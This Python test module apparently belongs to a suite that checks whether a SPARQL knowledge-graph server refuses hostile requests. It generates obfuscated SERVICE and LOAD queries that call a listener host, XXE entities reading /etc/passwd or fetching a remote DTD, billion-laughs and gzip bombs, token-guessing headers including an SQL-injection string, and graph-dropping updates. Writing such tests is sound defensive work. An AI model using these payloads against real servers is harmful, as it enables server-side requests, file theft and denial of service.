"""Requests that would have the server fetch, write or give away what it must not."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from random import Random
from typing import Final
from urllib.parse import quote

from tests.hostile.making import (
    BAD,
    FORM,
    NO_ENTRY,
    NOT_THERE,
    OK,
    STOPPED,
    TOO_LONG,
    UPDATE,
    WITHIN_S,
    Kind,
    Target,
    bearer,
    fixed,
    get,
    paths,
    post,
    queries,
    request,
    updates,
)
from tests.hostile.reading import Reply
from tests.hostile.sending import Attack

_REFUSED: Final = frozenset((400, 403))
_NOT_READ: Final = frozenset((400, 413, 415, 431))
_BASE: Final = "https://w3id.org/paperkg/"
_DERIVED: Final = (
    f"{_BASE}graph/terms",
    f"{_BASE}graph/meta",
    f"{_BASE}digest/2024-08-05",
    f"{_BASE}digest/2099-01-01",
    f"{_BASE}.well-known/sparql-examples",
    f"{_BASE}graph/한글",
)


def nothing_fetched(reply: Reply) -> None:
    """An answer holds nothing of the machine's files, nor of the listener's."""
    for secret in (b"root:", b"fetched-from-listener", b"127.0.0.1 localhost"):
        assert secret not in reply.body


def _services(random: Random, target: Target) -> Iterator[str]:
    there = f"<http://{target.listener}/sparql>"
    spelt = "".join(random.choice((one.lower(), one, f"\\u{ord(one):04X}")) for one in "SERVICE")
    yield from (
        f"SELECT * {{ SERVICE {there} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT {there} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?where {{ {there} }} SERVICE ?where {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(IRI('http://{target.listener}/') AS ?w) SERVICE ?w {{ ?s ?p ?o }} }}",
        f"SELECT * {{ \\u0053ERVICE {there} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ {spelt} {there} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ {{}}SERVICE{there}{{ ?s ?p ?o }} }}",
        f"SELECT * {{ #\rSERVICE#\n{there} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ '''\\''' ''' }} SERVICE {there} {{ ?s ?p ?o }} '''",
        f"PREFIX l: <http://{target.listener}/> SELECT * {{ SERVICE l: {{ ?s ?p ?o }} }}",
        f"PREFIX l: <http://{target.listener}/> SELECT * {{ SERVICEl:x {{ ?s ?p ?o }} }}",
        f"PREFIX : <http://{target.listener}/> SELECT * {{ FILTER(trueSERVICE:x {{ ?s ?p ?o }} }}",
        f"BASE <http://{target.listener}/> SELECT * {{ sErViCe <x> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ FILTER EXISTS {{ SERVICE {there} {{ ?s ?p ?o }} }} }}",
        f"ASK {{ OPTIONAL {{ SELECT * {{ SERVICE {there} {{}} }} }} }}",
    )


def _loads(random: Random, target: Target) -> Iterator[str]:
    graph = f"<https://example.org/{random.randrange(1_000)}>"
    for source in (f"http://{target.listener}/x.ttl", "file:///etc/passwd", "file:/etc/hosts"):
        yield f"LOAD <{source}>"
        yield f"LOAD SILENT <{source}> INTO GRAPH {graph}"
        yield f"INSERT DATA {{ <urn:a> <urn:b> 1 }} ; lO\\u0041D <{source}> INTO GRAPH {graph}"
        yield f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{source}> {{ ?s ?p ?o }} }}"


def _froms(random: Random, target: Target) -> Iterator[str]:
    for source in (f"http://{target.listener}/x.ttl", "file:///etc/passwd", "file:/etc/hosts"):
        yield f"SELECT * FROM <{source}> {{ ?s ?p ?o }}"
        yield f"SELECT * FROM NAMED <{source}> {{ GRAPH ?g {{ ?s ?p ?o }} }}"
        yield f"SELECT * {{ GRAPH <{source}> {{ ?s ?p ?o }} }}"
        yield f"DESCRIBE <{source}>"
        yield f"BASE <{source}> SELECT * FROM <> {{ ?s ?p ?o }}"


def _graph_parameters(random: Random, target: Target) -> Iterator[str]:
    asked = quote("SELECT * { ?s ?p ?o }", safe="")
    for source in (
        *(f"http://{target.listener}/x.ttl", "file:///etc/passwd", "file:../../etc/passwd"),
        *("gopher://127.0.0.1:1/", "jar:file:/x!/", "data:text/turtle,<a><b><c>."),
    ):
        for name in ("default-graph-uri", "named-graph-uri"):
            yield f"/sparql?query={asked}&{name}={quote(source, safe='')}"
    for odd in ("", "relative", "//host/x", "urn:a b", "<urn:a>", "urn:a>}", "x" * 3_000):
        yield f"/sparql?query={asked}&default-graph-uri={quote(odd, safe='')}"


def _hidden_updates(random: Random, target: Target) -> Iterator[Attack]:
    """Updates where a query belongs, queries where an update does, and both at once."""
    update = quote("INSERT DATA { <urn:a> <urn:b> 1 }", safe="")
    asked = quote("ASK {}", safe="")
    for form in (f"query={update}", f"query={asked}&update={update}", f"update={asked}"):
        yield post(target, "/sparql", form.encode(), FORM)
    yield get(target, f"/sparql?query={update}")
    yield get(target, f"/sparql?update={update}")
    yield get(target, f"/sparql?update={update}&query={asked}", bearer(target))
    yield post(target, f"/sparql?update={update}", f"query={asked}".encode(), FORM)
    yield post(target, f"/sparql?query={asked}", f"update={update}".encode(), FORM)
    yield post(target, "/sparql", b"INSERT DATA { <urn:a> <urn:b> 1 }", "application/sparql-query")
    for method in ("PUT", "DELETE", "PATCH"):
        yield request(target, method, f"/sparql?update={update}", (bearer(target),))


def _guessed_tokens(random: Random, target: Target) -> Iterator[Attack]:
    update = b"INSERT DATA { <urn:a> <urn:b> 1 }"
    token = target.token
    flipped = token[:-1] + ("a" if token[-1] != "a" else "b")
    for value in (
        *("Bearer", "Bearer ", "Bearer null", f"Bearer {token[:-1]}", f"Bearer {token}x"),
        *(f"Bearer {flipped}", f"Bearer {token} {token}", f"Bearer {token},", f"Basic {token}"),
        *(f"Bearer {token.upper()}", f'Bearer "{token}"', f"Bearer\t{token}\x0b", token),
        *(f"Bearer {random.randbytes(16).hex()}", "Bearer " + "x" * 7_000, "Bearer é한"),
        *("Basic Og==", "Bearer ' OR 1=1 --", "Bearer *", "Bearer ../../token", "Negotiate x"),
    ):
        yield post(target, "/sparql", update, UPDATE, ("Authorization", value))
    yield post(target, "/sparql", update, UPDATE)
    for name in ("token", "access_token", "bearer", "KG_WRITE_TOKEN"):
        yield post(target, f"/sparql?{name}={token}", update, UPDATE)
        yield post(target, "/sparql", update, UPDATE, (name, token))
    yield post(target, "/sparql", update, UPDATE, ("Cookie", f"token={token}"))
    wrong = ("Authorization", "Bearer wrong")
    yield post(target, "/sparql", update, UPDATE, bearer(target), wrong)
    yield request(target, "PUT", "/store?graph=urn:x", (("Content-Type", "text/turtle"),), b"")
    yield request(target, "DELETE", "/store?default", (wrong,))
    yield request(target, "DELETE", f"/store?graph={quote(_DERIVED[0], safe='')}")


def _derived_updates(random: Random, target: Target) -> Iterator[str]:
    """Writes to what builds make, and to graphs that only running would tell."""
    graph = f"<{random.choice(_DERIVED)}>"
    triple = "<urn:a> <urn:b> 1"
    yield f"INSERT DATA {{ GRAPH {graph} {{ {triple} }} }}"
    yield f"DELETE DATA {{ GRAPH {graph} {{ {triple} }} }}"
    yield f"DELETE WHERE {{ GRAPH {graph} {{ ?s ?p ?o }} }}"
    yield "DELETE { GRAPH ?g { ?s ?p ?o } } WHERE { GRAPH ?g { ?s ?p ?o } }"
    yield "INSERT { GRAPH ?g { ?s ?p ?o } } WHERE { GRAPH ?g { ?s ?p ?o } }"
    yield f"WITH {graph} DELETE {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o }}"
    for word in ("CLEAR", "DROP"):
        yield f"{word} GRAPH {graph}"
        yield f"{word} SILENT ALL"
        yield f"{word} NAMED"
    yield f"CREATE GRAPH {graph}"
    yield f"COPY DEFAULT TO {graph}"
    yield f"MOVE {graph} TO <https://example.org/own>"
    yield f"ADD <https://example.org/own> TO {graph}"
    yield f"BASE <{_BASE}> DROP GRAPH <graph/terms>"
    yield f"PREFIX k: <{_BASE}graph/> DROP GRAPH k:terms"
    yield f"PREFIX k: <{_BASE}graph/> INSERT DATA {{ GRAPH k:\\u0074erms {{ {triple} }} }}"
    yield f"INSERT DATA {{ {triple} }} ; DROP GRAPH <{_BASE}graph/\\u0074erms>"
    yield f"DROP GRAPH <{_BASE}graph/../graph/terms> ; CLEAR GRAPH {graph}"


def _derived_files(random: Random, target: Target) -> Iterator[Attack]:
    """The same by the graph store protocol, each way to name a graph."""
    turtle = (("Content-Type", "text/turtle"), bearer(target))
    for graph in _DERIVED:
        name = f"/store?graph={quote(graph, safe='')}"
        yield request(target, random.choice(("PUT", "POST")), name, turtle, b"<urn:a> <urn:b> 1 .")
        yield request(target, "DELETE", name, (bearer(target),))


def _no_graph(random: Random, target: Target) -> Iterator[Attack]:
    """Names that are none, and two at once."""
    turtle = (("Content-Type", "text/turtle"), bearer(target))
    for name in (
        *("graph=", "graph=relative", "graph=urn:a&graph=urn:b", "default&graph=urn:a"),
        *("graph=urn:a%20b", "graph=%3Curn:a%3E", "graph=_:b", "graph=urn:%ff", "graph=%00"),
        *("graph=file:///etc/passwd%0d%0a", "Graph=urn:a", "default=1&default"),
    ):
        yield request(target, "PUT", f"/store?{name}", turtle, b"<urn:a> <urn:b> .")
    yield request(target, "PUT", "/store", turtle, b"<urn:a> <urn:b> .")


def _bombs(random: Random, target: Target) -> Iterator[Attack]:
    """Graphs that are no good: each is made so that no parser can take it to the end."""
    path = "/store?graph=https://example.org/bomb"
    listener = target.listener
    entities = "".join(
        f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(random.randrange(9, 30))
    )
    xml = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "lol">' + entities + "%s]>"
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="urn:a"><x:p xmlns:x="urn:">%s</x:p>'
    )
    remote = json.dumps({"@context": f"http://{listener}/context.jsonld", "@id": "urn:a", "p": 1})
    for content_type, body in (
        ("application/rdf+xml", xml % ("", "&e9;")),
        ("application/rdf+xml", xml % ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
        ("application/rdf+xml", xml % (f'<!ENTITY % p SYSTEM "http://{listener}/d"> %p;', "")),
        ("application/ld+json", remote),
        ("application/ld+json", '{"@context": ["' + f"http://{listener}/" + '"], "@id": "urn:a"}'),
        ("application/ld+json", '{"@context": {"@import": "' + f"http://{listener}/" + '"}}'),
        ("application/ld+json", "[" * random.randrange(1_000, 500_000)),
        ("application/ld+json", '{"@graph":' * 100_000),
        ("text/turtle", "<urn:a> <urn:b> " + "(" * 500_000),
        ("text/turtle", "[ <urn:p> " * 300_000),
        ("text/turtle", "<urn:a> <urn:b> " + "<<( <urn:a> <urn:b> " * 100_000),
        ("text/turtle", "@prefix a: <urn:> . " * 50_000 + "a:b a:c"),
        ("application/n-quads", "<urn:a> <urn:b> <" + "x" * 1_000_000),
        ("application/trig", "<urn:g> { " * 100_000),
    ):
        yield request(
            target, "PUT", path, (("Content-Type", content_type), bearer(target)), body.encode()
        )


def _packed(random: Random, target: Target) -> Iterator[Attack]:
    """Bodies that grow when unpacked."""
    packed = gzip.compress(b"ASK { " + b" " * 50_000_000, 9)
    twice = gzip.compress(packed)
    for coding, body in (
        ("gzip", packed),
        ("gzip, gzip", twice),
        ("x-gzip", packed),
        ("deflate", packed),
        ("br", packed),
        ("zstd", random.randbytes(1_000)),
        ("identity, " * 300 + "gzip", packed),
    ):
        head = ("Content-Encoding", coding)
        yield post(target, "/sparql", body, "application/sparql-query", head)
        yield request(
            target,
            "PUT",
            "/store?graph=https://example.org/bomb",
            (("Content-Type", "text/turtle"), head, bearer(target)),
            body,
        )


KINDS: Final = (
    Kind("SERVICE in all spellings", queries(_services), _REFUSED),
    Kind("LOAD as a query", queries(_loads), _REFUSED),
    Kind("LOAD as an update", updates(_loads), _REFUSED),
    Kind(
        "FROM the web and from files",
        queries(_froms),
        OK | BAD,
        checks=(nothing_fetched,),
    ),
    Kind(
        "graphs of the web in parameters",
        paths(_graph_parameters),
        OK | BAD,
        checks=(nothing_fetched,),
    ),
    Kind("updates hidden in requests", _hidden_updates, frozenset((400, 401, 403, 405))),
    Kind("guessed tokens", _guessed_tokens, NO_ENTRY | BAD),
    Kind("updates of derived graphs", updates(_derived_updates), frozenset((400, 409))),
    Kind("derived graphs as files", _derived_files, frozenset((409,))),
    Kind("graphs without a name", _no_graph, NOT_THERE),
    Kind("RDF bombs", _bombs, TOO_LONG | STOPPED, may_close=True, within_s=3 * WITHIN_S),
    Kind("packed bodies", _packed, _NOT_READ, may_close=True),
    Kind(
        "resources of elsewhere",
        paths(
            fixed(
                *("/resource?iri=file:///etc/passwd", "/resource?iri=http://LISTENER/"),
                *("/resource?iri=data:text/html,x", "/resource?iri=", "/resource"),
                *("/resource?iri=//LISTENER/", "/resource?iri=http://[::1", "/resource?iri=%00"),
            )
        ),
        NOT_THERE,
        checks=(nothing_fetched,),
    ),
)
